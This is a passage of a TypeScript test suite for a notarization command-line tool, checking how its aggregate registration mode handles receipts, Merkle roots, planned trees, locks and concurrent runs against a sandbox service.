      const [result] = parseNdjson(run.stdout);
      expect(result).toMatchObject({ status: 'already-registered', proof: { root } });
      expect(result!.receipt).toBeUndefined();
      expect(run.stderr).toContain(
        `${ownReceipt} is a receipt of its document registered on its own, where this run confirmed Merkle root ${root}: it is left as it is, and no result names it`,
      );
      // The way out (r96: none was named), said where the run holds the record itself (its ledger);
      // from another receipt's record, it works unsaid.
      if (recorded)
        expect(run.stderr).toContain(
          `no result names it; to have this run's receipt there, move it aside (keep it: it may be the only copy of that registration's record) and run the same command again`,
        );
      expect(readFileSync(ownReceipt, 'utf8')).toBe(before);
      // Moved aside, the same command writes the root's receipt there, nothing paid.
      const aside = `${ownReceipt}.kept`;
      renameSync(ownReceipt, aside);
      const afterMark = bed.mark();
      const again = await register();
      expect(again.code, describeRun(again)).toBe(0);
      expect(bed.callsSince(afterMark).filter((c) => c.route === 'forfait')).toEqual([]);
      expect(parseNdjson(again.stdout)[0]).toMatchObject({ receipt: ownReceipt, proof: { root } });
      expect(JSON.parse(readFileSync(ownReceipt, 'utf8'))).toMatchObject({ proof: { root } });
      // The receipt of the document on its own back in its place, for the next mode.
      renameSync(aside, ownReceipt);
    }
  }

  it('--aggregate on a store that had a 409 for a document on its own names its receipt there, as register does', async () => {
    // r89: per-document register named the receipt; --aggregate on the same store said "no receipt written".
    const [a] = await writeDocs('confirmed-own', 'confirmed on its own', ['a']);
    const receipts = bed.path('confirmed-own-receipts');
    const env = (store: string) => ({ env: { NOTARIZE_CONFIG_DIR: store } });
    expect((await bed.main(['register', a!, '--receipt-dir', receipts, '--quiet'], env(freshStore()))).code).toBe(0);
    const receipt = join(receipts, 'a.txt.notarization.json');
    const before = readFileSync(receipt, 'utf8');
    const store = freshStore();
    const perDocument = await bed.main(['register', a!, '--receipt-dir', receipts, '--output', 'ndjson'], env(store));
    expect(perDocument.code, describeRun(perDocument)).toBe(0);
    expect(parseNdjson(perDocument.stdout)[0]).toMatchObject({ status: 'already-registered', receipt });
    const mark = bed.mark();
    const aggregate = await bed.main(
      ['register', '--aggregate', a!, '--receipt-dir', receipts, '--output', 'ndjson'],
      env(store),
    );
    expect(aggregate.code, describeRun(aggregate)).toBe(0);
    expect(bed.callsSince(mark)).toEqual([]);
    expect(parseNdjson(aggregate.stdout)[0]).toMatchObject({ status: 'already-registered', receipt });
    expect(aggregate.stderr).not.toContain('no receipt written');
    expect(readFileSync(receipt, 'utf8')).toBe(before);
  });

  it('a receipt whose root the service does not have, of a document it has on its own: named by no result, said so', async () => {
    // r88: the run learnt the receipt's root is not registered, then got 409 for the document's own
    // digest (another job registered it), and named that receipt as the document's, exit 0, no word.
    const doc = bed.path('stale-known/doc.txt');
    const sha256 = await bed.write('stale-known/doc.txt', 'a document registered on its own elsewhere\n');
    const elsewhere = await bed.main(['register', doc, '--quiet'], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'stale-known-other-')) },
    });
    expect(elsewhere.code, describeRun(elsewhere)).toBe(0);
    const receipts = mkdtempSync(join(bed.root, 'stale-known-receipts-'));
    const staleRoot = plantReceipt(receipts, 'doc.txt', sha256);
    const file = join(receipts, 'doc.txt.notarization.json');
    const before = readFileSync(file, 'utf8');
    for (const args of [[doc], ['--aggregate', doc]]) {
      const mark = bed.mark();
      const run = await bed.main(['register', ...args, '--receipt-dir', receipts, '--output', 'ndjson'], {
        env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'stale-known-store-')) },
      });
      const calls = bed.callsSince(mark).map((call) => `${call.route}:${call.status}`);
      if (args[0] === '--aggregate') {
        // The aggregate puts it into a tree of its own (the service does not have the root): paid once, receipt replaced.
        expect(run.code, describeRun(run)).toBe(0);
        expect(calls).toEqual(['login:200', 'request:200', 'request:200', 'forfait:200']);
        expect(parseNdjson(run.stdout)[0]).toMatchObject({ status: 'registered' });
        continue;
      }
      expect(run.code, describeRun(run)).toBe(0);
      expect(calls).toEqual(['login:200', 'request:200', 'request:409']);
      const [result] = parseNdjson(run.stdout);
      expect(result).toMatchObject({ status: 'already-registered', record: null });
      expect(result!.receipt).toBeUndefined();
      expect(run.stderr).toContain(
        // The service's word on its root said too (r96): nothing here tells the receipt is wrong.
        `${file} is a receipt of Merkle root ${staleRoot} (the service said in this run that it does not have it), where this run confirmed its document registered on its own: it is left as it is, and no result names it`,
      );
      expect(readFileSync(file, 'utf8')).toBe(before);
    }
  });

  it('a receipt of a root the service says it does not have, where its document is under a root it has: replaced from a receipt there (r96)', async () => {
    const { docs, receipts, root } = await registeredTree('refuted-root', 'refuted, then confirmed', ['a', 'b']);
    const file = join(receipts, 'a.txt.notarization.json');
    const digest = createHash('sha256').update(readFileSync(docs[0]!)).digest('hex');
    const staleRoot = plantReceipt(receipts, 'a.txt', digest);
    for (const aggregate of [true, false]) {
      const mark = bed.mark();
      const args = aggregate ? ['--aggregate', ...docs] : [docs[0]!];
      const run = await bed.main(['register', ...args, '--receipt-dir', receipts, '--output', 'ndjson'], {
        env: { NOTARIZE_CONFIG_DIR: freshStore() },
      });
      expect(run.code, describeRun(run)).toBe(0);
      expect(bed.callsSince(mark).filter((c) => c.route === 'forfait')).toEqual([]);
      expect(run.stderr).not.toContain('it is left as it is');
      const [result] = parseNdjson(run.stdout);
      expect(result).toMatchObject({ status: 'already-registered', proof: { root }, receipt: file });
      expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ proof: { root } });
      // The next round starts from the stale receipt again.
      expect(plantReceipt(receipts, 'a.txt', digest)).toBe(staleRoot);
    }
  });

  /** A receipt in `dir` for the document `name` of digest `sha256`, under a one-leaf root of its own the service never saw. */
  function plantReceipt(dir: string, name: string, sha256: string): string {
    const salt = createHash('sha256').update(`planted ${name}`).digest();
    const root = leafHash(hex(sha256), salt).toString('hex');
    const proof = {
      type: 'rfc9162-sha256-salted-leaf' as const,
      leafSalt: salt.toString('hex'),
      leafIndex: 0,
      treeSize: 1,
      path: [],
      root,
    };
    const text = receiptText({
      document: { name, sha256, size: null },
      recordJson: JSON.stringify({ hash: root }),
      baseUrl: bed.url,
      registeredAt: '2026-01-01T00:00:00.000Z',
      proof,
    });
    writeFileSync(join(dir, `${name}.notarization.json`), text);
    return root;
  }

  it('--aggregate: receipts whose roots the service does not have cost at most 16 asks, as manifests do', async () => {
    const receipts = mkdtempSync(join(bed.root, 'planted-receipts-'));
    const docs: string[] = [];
    for (let i = 0; i < 17; i++) {
      const name = `p${String(i).padStart(2, '0')}.txt`;
      plantReceipt(receipts, name, await bed.write(`planted/${name}`, `planted receipt ${i}\n`));
      docs.push(bed.path(`planted/${name}`));
    }
    const mark = bed.mark();
    const run = await onStore(freshStore(), receipts, docs);
    expect(run.run.code, describeRun(run.run)).toBe(1);
    expect(run.run.stderr).toContain('the service does not have the roots of these 16 receipts');
    const results = parseResults(run.run.stdout);
    expect(results.filter((r) => r.status === 'failed').map((r) => r.error!.code)).toEqual(['manifests_unasked']);
    expect(results.filter((r) => r.status === 'registered')).toHaveLength(16);
    // 16 asks, then one root for the 16 documents the service did not have.
    expect(bed.callsSince(mark).filter((call) => call.route === 'request')).toHaveLength(17);
    expect(bed.callsSince(mark).filter((call) => call.route === 'forfait')).toHaveLength(1);
  });

  it('--aggregate: a root asked about for a receipt is not asked again for a manifest of the run', async () => {
    const receipts = mkdtempSync(join(bed.root, 'once-receipts-'));
    const sha256 = await bed.write('once/a.txt', 'asked once\n');
    plantReceipt(receipts, 'a.txt', sha256);
    // A manifest of another root the service never saw, listing the same document.
    const salt = createHash('sha256').update('another planted salt').digest('hex');
    const root = leafHash(hex(sha256), hex(salt)).toString('hex');
    const entry = {
      root,
      treeSize: 1,
      description: 'planted',
      createdAt: '2026-01-01T00:00:00.000Z',
      leaves: [{ index: 0, name: 'a.txt', sha256, size: 1, salt }],
    };
    writeFileSync(join(receipts, `${root}.tree.json`), [...treeManifestText(entry)].join(''));
    const run = await onStore(freshStore(), receipts, [bed.path('once/a.txt')]);
    expect(run.run.code, describeRun(run.run)).toBe(0);
    // The receipt's root, the manifest's root (each once), then the document's own new root.
    expect(run.calls).toEqual(['login:200', 'request:200', 'request:200', 'request:200', 'forfait:200']);
  });

  it('--aggregate over part of a tree, its manifest kept: the receipts answer; the same content under another name too', async () => {
    const { docs, receipts, root } = await registeredTree('part', 'a tree of ten', [
      'a',
      'b',
      'c',
      'd',
      'e',
      'f',
      'g',
      'h',
      'i',
      'j',
    ]);
    const kept = readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8');
    // One document of ten (a manifest of more than four leaves per document is not read), and a copy
    // of it under a name with no receipt: one ask, nothing paid, a's receipt as it was.
    cpSync(docs[0]!, bed.path('part/a-copy.txt'));
    const again = await onStore(freshStore(), receipts, [docs[0]!, bed.path('part/a-copy.txt')]);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409']);
    // The copy gets a receipt at its own place, made from a's (r105: verify --receipt-dir takes any
    // registered bytes at a name with no receipt of its own): no receipt is missing.
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof?.root, r.receipt ?? null])).toEqual([
      ['already-registered', root, join(receipts, 'a.txt.notarization.json')],
      ['already-registered', root, join(receipts, 'a-copy.txt.notarization.json')],
    ]);
    expect(readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8')).toBe(kept);
    expect(again.run.stderr).not.toContain('no new receipts');
  });

  it('--aggregate: a manifest judged by the whole run, copies of a document whose ask failed, a planned store tree', async () => {
    // 1. A manifest of eight leaves is usable for a run of two, also once a receipt placed one of the two.
    const eight = await writeDocs('judged', 'eight', ['1', '2', '3', '4', '5', '6', '7', '8']);
    const receipts = bed.path('judged-receipts');
    expect((await onStore(freshStore(), receipts, eight)).run.code).toBe(0);
    const [x] = await writeDocs('judged', 'alone', ['x']);
    const alone = await onStore(freshStore(), receipts, [x!]);
    rmSync(join(receipts, `${parseResults(alone.run.stdout)[0]!.proof!.root}.tree.json`));
    const before = readFileSync(join(receipts, '1.txt.notarization.json'), 'utf8');
    const both = await onStore(freshStore(), receipts, [eight[0]!, x!]);
    expect(both.run.code, describeRun(both.run)).toBe(0);
    expect(both.calls).toEqual(['login:200', 'request:409', 'request:409']);
    expect(readFileSync(join(receipts, '1.txt.notarization.json'), 'utf8')).toBe(before);

    // 2. A copy (no receipt) of a document whose root could not be asked about fails with it, unpaid.
    cpSync(x!, bed.path('judged/x-copy.txt'));
    bed.sandbox.addFaults(parseFaults('request:status=503*1'));
    const failed = await onStore(freshStore(), receipts, [x!, bed.path('judged/x-copy.txt')], ['--retries', '0']);
    expect(failed.run.code, describeRun(failed.run)).toBe(4);
    expect(failed.calls).toEqual(['login:200', 'request:503']);
    expect(parseResults(failed.run.stdout).map((r) => r.status)).toEqual(['failed', 'failed']);

    // 3. A tree this store only planned (its request failed) does not stop the receipt from answering.
    const store = freshStore();
    bed.sandbox.addFaults(parseFaults('request:status=503*1'));
    const planned = await bed.main(['register', '--aggregate', x!, '--retries', '0', '--json'], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    expect(planned.code, describeRun(planned)).toBe(4);
    const answered = await onStore(store, receipts, [x!]);
    expect(answered.run.code, describeRun(answered.run)).toBe(0);
    // (Logged in already: the store keeps the token of the run that planned the tree.)
    expect(answered.calls).toEqual(['request:409']);
    expect(parseResults(answered.run.stdout)[0]).toMatchObject({ status: 'already-registered' });
  });

  it("--aggregate --fail-fast: after an ask about a receipt's root that failed, no other is sent", async () => {
    const receipts = mkdtempSync(join(bed.root, 'ff-receipts-'));
    const docs: string[] = [];
    for (const name of ['a.txt', 'b.txt', 'c.txt']) {
      plantReceipt(receipts, name, await bed.write(`ff-asks/${name}`, `fail-fast ask ${name}\n`));
      docs.push(bed.path(`ff-asks/${name}`));
    }
    bed.sandbox.addFaults(parseFaults('request:status=503*1'));
    const run = await onStore(freshStore(), receipts, docs, ['--fail-fast', '--retries', '0']);
    expect(run.run.code, describeRun(run.run)).toBe(4);
    expect(run.calls).toEqual(['login:200', 'request:503']);
    expect(parseResults(run.run.stdout).map((r) => r.status)).toEqual(['failed', 'skipped', 'skipped']);
  });

  it('a document with a session of its own pending is completed on its own, never put under a new root', async () => {
    const own = await bed.write('own-pending/a.txt', 'own session a\n');
    await bed.write('own-pending/b.txt', 'own session b\n');
    const pendingOnly = await bed.main(['register', '--no-complete', bed.path('own-pending/a.txt'), '--quiet']);
    expect(pendingOnly.code, describeRun(pendingOnly)).toBe(0);
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', '-r', bed.path('own-pending'), '--json']);
    expect(run.code, describeRun(run)).toBe(0);
    const [a, b] = parseResults(run.stdout);
    // Its session may have been sent to forfait by a run that stopped: a root over it could pay twice.
    expect(a).toMatchObject({ status: 'registered', hash: own, record: { hash: own } });
    expect(a!.proof).toBeUndefined();
    expect(b).toMatchObject({ status: 'registered', proof: { treeSize: 1, leafIndex: 0 } });
    expect(run.stderr).toContain(`${own} has a session of its own pending: it goes through its own registration`);
    const calls = bed.callsSince(mark).map((c) => `${c.route}:${c.path.includes(own) ? 'own' : 'root'}`);
    // The tree's root first (planted right after the locks were looked at), then its own session.
    expect(calls).toEqual(['request:root', 'forfait:root', 'forfait:own']);
    expect(bed.pendingHashes()).not.toContain(own);
  });

  it('a document with a session of its own, in a tree only planned: that root, requested again, answers for it; one payment', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'planned-own-')) };
    const [a, b] = await writeDocs('planned-own', 'planned, own session', ['a', 'b']);
    bed.sandbox.addFaults(parseFaults('request:status=503*1'));
    const planned = await bed.main(['register', '--aggregate', a!, b!, '--retries', '0', '--quiet'], { env });
    expect(planned.code, describeRun(planned)).toBe(4);
    expect((await bed.main(['register', a!, '--no-complete', '--quiet'], { env })).code).toBe(0);
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', a!, b!, '--json'], { env });
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseResults(run.stdout).map((r) => [r.status, r.proof?.treeSize])).toEqual([
      ['registered', 2],
      ['registered', 2],
    ]);
    expect(bed.callsSince(mark).filter((c) => c.route === 'forfait')).toHaveLength(1);
  });

  it('a tree only planned (its request failed) holding a document registered on its own since: abandoned, the rest planted anew', async () => {
    const { env, paths, docs, hashes } = await failedAggregate('planned-taken', ['d1', 'd2', 'd3']);
    const [planned] = readdirSync(join(paths.service, 'trees'));
    // The CI job registers d1 on its own (the planned tree frees it), then retries the aggregate.
    expect((await bed.main(['register', docs[0]!, '--quiet'], { env })).code).toBe(0);
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', ...docs, '--json'], { env });
    expect(run.code, describeRun(run)).toBe(0);
    const results = parseResults(run.stdout);
    const root = results[1]!.proof!.root;
    expect(results.map((r) => [r.hash, r.status, r.proof?.root, r.proof?.treeSize])).toEqual([
      [hashes[0], 'already-registered', undefined, undefined],
      [hashes[1], 'registered', root, 2],
      [hashes[2], 'registered', root, 2],
    ]);
    // The planned root (over d1 too) is never requested; its tree is gone.
    expect(root).not.toBe(planned!.slice(0, 64));
    expect(readdirSync(join(paths.service, 'trees'))).toEqual([`${root}.json`]);
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual(['request', 'forfait']);
  });

  it('a tree only planned holding a document at work in another process: abandoned; that one is settled on its own', async () => {
    const { env, paths, docs, hashes, store } = await failedAggregate('planned-at-work', ['d1', 'd2']);
    const [planned] = readdirSync(join(paths.service, 'trees'));
    // A per-document run at work on d1 (its lock held) when the aggregate is retried.
    // That run ends with nothing paid (its request failed, say): the aggregate registers d1 on its own.
    const run = await aggregateBesideLock(store, hashes[0]!, docs, env);
    expect(run.code, describeRun(run)).toBe(0);
    const results = parseResults(run.stdout);
    const root = results[1]!.proof!.root;
    expect(root).not.toBe(planned!.slice(0, 64));
    expect(results.map((r) => [r.hash, r.status, r.proof?.root, r.proof?.treeSize])).toEqual([
      [hashes[0], 'registered', undefined, undefined],
      [hashes[1], 'registered', root, 1],
    ]);
    expect(readdirSync(join(paths.service, 'trees'))).toEqual([`${root}.json`]);
  });

  it('a tree only planned whose root lock the run could not hold as it placed it: its documents looked at under that lock before the request', async () => {
    // Another run's --aggregate placed d1, d2 under this planned tree while a per-document run held the root's
    // lock a moment (looking at the trees), so it could not hold it and abandonTakenUp looked at nothing; that
    // per-document run then took d1 up on its own (its lock held now). Requesting the root would pay for d1 twice.
    const { env, docs, hashes, store } = await failedAggregate('planned-unheld', ['d1', 'd2']);
    const [tree] = (await Trees.load(store)).all;
    expect(tree!.state).toBe('planned');
    const root = tree!.entry.root;
    const releaseD1 = await holdLock(store.lockFile(hashes[0]!), 0);
    onTestFinished(releaseD1);
    const mark = bed.mark();
    const flags = { signed: false, blockchain: 'ALGORAND', complete: true } as const;
    const result = await registerRoot({ api: sandboxApi(bed), store }, tree!, flags);
    expect(result.ok).toBe(false);
    const error = 'error' in result ? result.error : undefined;
    expect(error).toBeInstanceOf(TakenUpSince);
    expect(error).toMatchObject({
      exitCode: 4,
      message:
        `the Merkle root ${root} was not requested: its document ${hashes[0]} was taken up on its own ` +
        'by another notarize process since its tree was planned',
      hint: 'run the same command again: it plants a new tree without them',
    });
    expect(bed.callsSince(mark)).toEqual([]);
    // The run again, once that one has let d1 go unpaid (its request failed, say): no dead end, the same
    // root answers for both, one request and one payment.
    releaseD1();
    const again = await bed.main(['register', '--aggregate', ...docs, '--json'], { env });
    expect(again.code, describeRun(again)).toBe(0);
    expect(parseResults(again.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
      ['registered', root],
      ['registered', root],
    ]);
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual(['request', 'forfait']);
  });

  it('complete --all beside an aggregate retried over a tree only planned: the own session waits for the root, then is left out', async () => {
    const { env, paths, docs, hashes, store } = await failedAggregate('all-beside-retry', ['d1', 'd2']);
    const d1 = hashes[0]!;
    expect((await bed.main(['register', docs[0]!, '--no-complete', '--quiet'], { env })).code).toBe(0);
    const tree = (await Trees.load(store)).place(d1)!.tree;
    expect(tree.state).toBe('planned');
    // The retried aggregate keeps the tree (d1's own session, with no lock, does not free it) and
    // holds its root's lock while it registers it: complete --all starts meanwhile.
    const root = tree.entry.root;
    const releaseRoot = await holdLock(store.lockFile(root), 0);
    const mark = bed.mark();
    const all = bed.main(['complete', '--all', '--json'], { env });
    for (let i = 0; i < 1000 && !store.hasLock(d1); i++) await new Promise((resolve) => setTimeout(resolve, 10));
    expect(store.hasLock(d1)).toBe(true);
    await registerHeldRoot(store, tree, releaseRoot);
    const run = await all;
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseResults(run.stdout)).toEqual([
      expect.objectContaining({
        hash: d1,
        status: 'skipped',
        reason: expect.stringContaining(`left out: placed under the Merkle root ${root} by another process`),
      }),
    ]);
    expect(run.stderr).toContain(
      `${d1} left out: under a Merkle root registered or pending, so completing its own session`,
    );
    // Its own session was never completed: only the root's request and completion were sent.
    expect(
      bed
        .callsSince(mark)
        .map((call) => call.route)
        .filter((route) => route !== 'login'),
    ).toEqual(['request', 'forfait']);
    expect(existsSync(paths.pending(d1))).toBe(true);
  });

  it('a session of its own in a tree only planned, abandoned as the run places it: said to go its own way, not under the root', async () => {
    const { env, docs, hashes, store } = await failedAggregate('own-session-abandoned', ['d1', 'd2']);
    const d1 = hashes[0]!;
    expect((await bed.main(['register', docs[0]!, '--no-complete', '--quiet'], { env })).code).toBe(0);
    // complete --all at work on d1 (its lock held) as the aggregate is retried: the planned tree is abandoned.
    const run = await aggregateBesideLock(store, d1, docs, env);
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseResults(run.stdout).map((r) => [r.hash, r.status, r.proof?.treeSize])).toEqual([
      [d1, 'registered', undefined],
      [expect.any(String), 'registered', 1],
    ]);
    expect(run.stderr).not.toContain('this run puts it under a Merkle root');
    expect(run.stderr).toContain(`${d1} has a session of its own pending: it goes through its own registration`);
  });

  it("a tree's part that fails with nothing sent: exit 2, and the sessions of their own are left pending", async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'tree-fails-')) };
    const [own, tree] = await writeDocs('tree-fails', 'tree part fails', ['own', 'tree']);
    const receipts = bed.path('tree-fails-receipts');
    const first = await bed.main(['register', '--aggregate', tree!, '--receipt-dir', receipts, '--quiet'], { env });
    expect(first.code, describeRun(first)).toBe(0);
    // A folder where the tree's manifest goes: the tree's part of the next run fails on it.
    const manifest = readdirSync(receipts).find((name) => name.endsWith('.tree.json'))!;
    rmSync(join(receipts, manifest));
    mkdirSync(join(receipts, manifest));
    expect((await bed.main(['register', own!, '--no-complete', '--quiet'], { env })).code).toBe(0);
    const mark = bed.mark();
    const run = await bed.main(
      ['register', '--aggregate', own!, tree!, '--receipt-dir', receipts, '--output', 'ndjson'],
      {
        env,
      },
    );
    // Nothing was sent before the tree's part failed: exit 2 stays true, and the session of its own is
    // left pending, not completed behind an error that says nothing was sent.
    expect(run.code, describeRun(run)).toBe(2);
    const ownHash = createHash('sha256').update(readFileSync(own!)).digest('hex');
    expect(existsSync(storePaths(env.NOTARIZE_CONFIG_DIR, bed.url).pending(ownHash))).toBe(true);
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a batch waiting on a slow completion while an aggregate registers the planned tree: its next documents pay nothing', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'planned-race-')) };
    const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
    const docs = await writeDocs('planned-race', 'planned race', ['d1', 'd2', 'd3', 'd4', 'd5']);
    const hashes = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
    bed.sandbox.addFaults(parseFaults('request:status=400*1'));
    expect((await bed.main(['register', '--aggregate', ...docs, '--quiet'], { env })).code).toBe(1);
    bed.sandbox.addFaults(parseFaults('forfait:latency=1500*1'));
    const perDocument = bed.run(['register', ...docs, '-j', '1', '--output', 'ndjson'], { env });
    // Its first document's completion is in flight (its session saved) when the aggregate runs.
    for (let i = 0; i < 300 && !existsSync(paths.pending(hashes[0]!)); i++) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    const aggregate = await bed.main(['register', '--aggregate', ...docs, '--quiet'], { env });
    expect(aggregate.code, describeRun(aggregate)).toBe(0);
    const batch = await perDocument;
    expect(batch.code, describeRun(batch)).toBe(0);
    // The one in flight is paid on its own (a leaf of the planned tree as well: the known limit);
    // every later one finds the root registered meanwhile.
    const results = parseNdjson(batch.stdout);
    expect(results.filter((r) => r.status === 'registered')).toHaveLength(1);
    expect(results.filter((r) => r.status === 'already-registered' && r.proof)).toHaveLength(4);
  });

  it('--fail-fast: a document whose own session cannot be read stops the others before anything is sent', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'own-fail-fast-')) };
    const docs = await writeDocs('own-fail-fast', 'fail fast, own sessions', ['d1', 'd2', 'd3']);
    expect((await bed.main(['register', docs[1]!, '--no-complete', '--quiet'], { env })).code).toBe(0);
    const d1 = createHash('sha256').update(readFileSync(docs[0]!)).digest('hex');
    writeFileSync(storePaths(env.NOTARIZE_CONFIG_DIR, bed.url).pending(d1), '{"broken');
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', ...docs, '--fail-fast', '-j', '1', '--json'], { env });
    expect(run.code, describeRun(run)).toBe(2);
    expect(parseResults(run.stdout).map((r) => r.status)).toEqual(['failed', 'skipped', 'skipped']);
    expect(bed.callsSince(mark).filter((c) => c.route === 'forfait' || c.route === 'request')).toEqual([]);
  });

  it('a session whose completion went through unanswered: the aggregate completes it (409), pays no root over it', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'lost-own-')) };
    const [a, b] = await writeDocs('lost-own', 'own completion lost', ['a', 'b']);
    const [ha, hb] = [a!, b!].map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
    // The service processes a's completion and the answer is lost: its session stays pending here, paid.
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const lost = await bed.main(['register', a!, '--quiet'], { env });
    expect(lost.code, describeRun(lost)).toBe(4);
    const mark = bed.mark();
    const receipts = bed.path('lost-own-receipts');
    const run = await bed.main(['register', '--aggregate', a!, b!, '--receipt-dir', receipts, '--json'], { env });
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseResults(run.stdout).map((r) => [r.hash, r.status, r.proof?.treeSize, r.receipt])).toEqual([
      [ha, 'already-registered', undefined, undefined],
      [hb, 'registered', 1, join(receipts, 'b.txt.notarization.json')],
    ]);
    // No record came for a, so no receipt: said, as per-document register says it.
    expect(run.stderr).toContain(`no receipt written for ${ha}: the service answered 409`);
    const calls = bed.callsSince(mark).map((c) => `${c.route}:${c.status}:${c.path.includes(ha!) ? 'a' : ''}`);
    expect(calls).toEqual(['request:200:', 'forfait:200:', 'forfait:409:a']);
  });

  it('a per-document run at work on the same documents, in another process: the aggregate waits, pays no root over them', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'race-')) };
    const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
    for (const [step, fault] of [
      // Long enough for the look below to see it at work on a busy machine (a spawned process can take seconds to start).
      ['request', 'request:latency=1500*2'],
      ['forfait', 'forfait:latency=1500*2'],
    ] as const) {
      const docs = await writeDocs(`race-${step}`, `raced at ${step}`, ['a', 'b']);
      const hashes = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
      bed.sandbox.addFaults(parseFaults(fault));
      const mark = bed.mark();
      const perDocument = bed.run(['register', ...docs, '--quiet'], { env });
      // Its locks taken (request in flight), or its sessions saved (forfait in flight).
      const atWork = () =>
        hashes.every((hash) => existsSync(step === 'request' ? paths.lock(hash) : paths.pending(hash)));
      for (let i = 0; i < 1000 && !atWork(); i++) await new Promise((resolve) => setTimeout(resolve, 10));
      expect(atWork(), step).toBe(true);
      const aggregate = await bed.main(['register', '--aggregate', ...docs, '--json'], { env });
      const first = await perDocument;
      expect(first.code, describeRun(first)).toBe(0);
      expect(aggregate.code, describeRun(aggregate)).toBe(0);
      expect(parseResults(aggregate.stdout).map((r) => [r.hash, r.status, r.proof])).toEqual(
        hashes.map((hash) => [hash, 'already-registered', undefined]),
      );
      // Two documents, two completions: no root over them.
      const forfaits = bed.callsSince(mark).filter((c) => c.route === 'forfait');
      expect(
        forfaits.map((c) => c.status),
        step,
      ).toEqual([200, 200]);
    }
  });

  it('a per-document batch already running when an aggregate plants its tree: each document covered once', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'batch-first-')) };
    const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
    const docs = await writeDocs('batch-first', 'batch first', ['d1', 'd2', 'd3', 'd4', 'd5', 'd6']);
    const hashes = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
    bed.sandbox.addFaults(parseFaults('request:latency=150*12,forfait:latency=150*12'));
    const perDocument = bed.run(['register', ...docs, '-j', '1', '--quiet'], { env });
    // The batch is under way (its first document registered) when the aggregate starts.
    // (Bounded at 10 s, not 3: a spawned process under a loaded machine's start-up.)
    for (let i = 0; i < 1000 && !existsSync(paths.ledger(hashes[0]!)); i++) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    expect(existsSync(paths.ledger(hashes[0]!))).toBe(true);
    const aggregate = await bed.main(['register', '--aggregate', ...docs, '--json'], { env });
    const first = await perDocument;
    expect(first.code, describeRun(first)).toBe(0);
    expect(aggregate.code, describeRun(aggregate)).toBe(0);
    // Every document is paid for once: on its own, or as a leaf of a root, never both.
    const roots = new Set(parseResults(aggregate.stdout).flatMap((r) => (r.proof ? [r.proof.root] : [])));
    const underRoot = new Set(parseResults(aggregate.stdout).flatMap((r) => (r.proof ? [r.hash] : [])));
    for (const hash of hashes) {
      expect(Number(bed.sandbox.records.has(hash)) + Number(underRoot.has(hash)), hash).toBe(1);
    }
    expect([...roots].every((root) => bed.sandbox.records.has(root))).toBe(true);
  });

  it('a tree planted over a document while a per-document run waits for its lock: once it holds it, it waits for the root', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'late-tree-')) };
    const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
    const docs = await writeDocs('late-tree', 'planted late', ['k', 'j']);
    const [k, j] = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex')) as [
      string,
      string,
    ];
    const store = new ServiceStore(paths.service, bed.url);
    // Another process at work on k: the per-document run finds k under no tree, then waits for its lock.
    const releaseK = await holdLock(store.lockFile(k), 0);
    const mark = bed.mark();
    const alone = bed.run(['register', docs[0]!, '--output', 'ndjson'], { env });
    const othersRunFile = () =>
      readdirSync(paths.locksDir).some((name) => /^\.\d+\./.test(name) && !name.startsWith(`.${process.pid}.`));
    for (let i = 0; i < 1000 && !othersRunFile(); i++) await new Promise((resolve) => setTimeout(resolve, 10));
    expect(othersRunFile()).toBe(true);
    // Meanwhile an aggregate plants its tree over k and j; the run at work on k lets go of it, and the
    // per-document run takes k's lock: it must not pay for k alone now.
    const root = await plantOverWhileLocked(store, [k, j], releaseK);
    const run = await alone;
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseNdjson(run.stdout)[0]).toMatchObject({ hash: k, status: 'already-registered', proof: { root } });
    const calls = bed.callsSince(mark).filter((call) => call.route !== 'login');
    expect(calls.map((call) => call.route)).toEqual(['request', 'forfait']);
    expect(calls.filter((call) => call.body.includes(k) || call.path.includes(k))).toEqual([]);
  });

  it.each([
    { command: 'complete --all', args: (): string[] => ['complete', '--all', '--json'], parse: parseResults },
    {
      command: 'register',
